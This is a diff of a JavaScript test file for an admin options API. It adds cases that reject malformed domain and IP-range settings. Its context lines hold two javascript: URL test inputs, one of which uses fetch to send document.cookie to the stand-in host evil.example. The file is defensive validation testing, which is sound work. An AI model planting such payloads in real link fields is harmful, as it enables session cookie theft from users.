@@ -60,6 +60,8 @@ describe('system options (super admin)', () => {
     [{ key: 'TopUpLink', value: 'javascript:alert(document.cookie)' }, 'TopUpLink 必须是 http:// 或 https:// 开头的地址'],
     [{ key: 'general_setting.docs_link', value: 'javascript:fetch(`//evil.example/${document.cookie}`)' }, 'general_setting.docs_link 必须是 http:// 或 https:// 开头的地址'],
     [{ key: 'fetch_setting.allowed_ports', value: '[443]' }, 'fetch_setting.allowed_ports 必须是端口或端口范围字符串的 JSON 数组，如 ["443", "8000-9000"]'],
+    [{ key: 'fetch_setting.domain_list', value: '["https://hooks.example.com"]' }, 'fetch_setting.domain_list 必须是域名字符串的 JSON 数组，如 ["example.com", "*.example.com"]'],
+    [{ key: 'fetch_setting.ip_list', value: '["10.0.0.0/99"]' }, 'fetch_setting.ip_list 必须是 IP 地址或 CIDR 网段字符串的 JSON 数组，如 ["203.0.113.7", "10.0.0.0/8"]'],
   ])('refuses %j', async (body, message) => {
     const res = await root.client.put('/api/option/', body);
     expect(res.status).toBe(400);
